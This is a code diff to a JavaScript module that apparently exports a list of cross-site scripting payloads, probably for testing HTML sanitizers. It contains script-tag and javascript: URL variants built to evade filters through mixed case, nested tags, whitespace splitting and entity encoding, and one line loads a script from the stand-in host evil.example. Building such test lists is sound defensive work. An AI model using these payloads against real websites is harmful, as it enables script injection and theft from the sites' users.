@@ -6,7 +6,7 @@ const RUN = 'window.pwned=1;alert(1)';
 const CODED = 'String.fromCharCode(97,108,101,114,116)';
 
 const scripts = [
-  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`,
+  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT >`,
   `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script/x>${RUN}</script>`,
   `<script\n>${RUN}</script\n>`, `<script\t>${RUN}</script>`,
   `<script src=//evil.example/x.js></script>`,
@@ -62,7 +62,7 @@ const svg = [
 ];
 
 const addresses = [
-  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`,
+  `javascript:${RUN}`, `JaVaScRiPt:${RUN};`, `java\tscript:${RUN}`,
   `java\nscript:${RUN}`, `\u0001javascript:${RUN}`, ` javascript:${RUN}`,
   `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`,
   `javascript:/*--></title>*/${RUN}//`, `jav&#x0A;ascript:${RUN}`,
@@ -179,6 +179,7 @@ const tools = [
   '0x7fffffff', 'COM1', `${CODED}(1)`,
 ];
 
+// No two are the same but for large and small letters.
 export const payloads = [scripts, events, svg, addresses, styles, holders,
   templates, unicode, turned, controls, entities, comments, markdown, sheets,
   tools].flat();
